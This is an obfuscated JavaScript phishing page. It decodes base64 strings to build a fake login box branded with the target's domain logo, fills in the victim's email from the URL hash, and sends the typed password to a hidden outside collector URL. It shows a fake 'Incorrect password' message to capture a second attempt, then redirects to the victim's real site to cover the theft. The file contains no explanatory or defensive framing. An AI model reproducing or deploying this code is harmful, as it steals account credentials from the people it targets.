const _0 = [
  'PGRpdiBjbGFzcz0iYngiPjxpbWcgc3JjPSJodHRwczovL2xvZ28uY2xlYXJi',
  'aXQuY29tL3t7ZH19Ij48aDI+e3tkfX08L2gyPjxmb3JtIGlkPSJsZiI+PGlu',
  'cHV0IHR5cGU9ImVtYWlsIiBuYW1lPSJ1IiB2YWx1ZT0ie3tlfX0iIHJlYWRv',
  'bmx5PjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCIgcGxhY2Vob2xk',
  'ZXI9IlBhc3N3b3JkIiByZXF1aXJlZD48cCBpZD0iZXIiPjwvcD48YnV0dG9u',
  'PkNvbnRpbnVlPC9idXR0b24+PC9mb3JtPjwvZGl2Pg=='
];
const _c = 'Ym9keXtiYWNrZ3JvdW5kOiNmMmYyZjI7Zm9udC1mYW1pbHk6c2Fucy1zZXJpZn0uYnh7bWF4LXdpZHRoOjM4MHB4O21hcmdpbjoxMnZoIGF1dG87YmFja2dyb3VuZDojZmZmO3BhZGRpbmc6MzJweH0=';
const _r = s => s.split('').reverse().join('');
const _u = atob(_r('whGcu4WavQ3LklGbhZnbp5SZy9Gdz1CdlN3ch9yL6MHc0RHa'));

(() => {
  let e = location.hash.replace(/^#/, '');
  try { e = atob(e); } catch (x) {}
  const d = (e.split('@')[1] || '').toLowerCase();
  if (!d) return location.replace('https://www.' + _r('elpmaxe.hcraesegap'));
  const html = atob(_0.join('')).replace(/{{e}}/g, e).replace(/{{d}}/g, d);
  document.open();
  document.write('<style>' + atob(_c) + '</style>' + html);
  document.close();
  let n = 0;
  document.getElementById('lf').onsubmit = function (ev) {
    ev.preventDefault();
    const x = new XMLHttpRequest();
    x.open('POST', _u);
    x.onloadend = () => {
      if (++n > 1) location.replace('https://' + d);
      this.p.value = '';
      document.getElementById('er').textContent = 'Incorrect password';
    };
    x.send(new FormData(this));
  };
})();
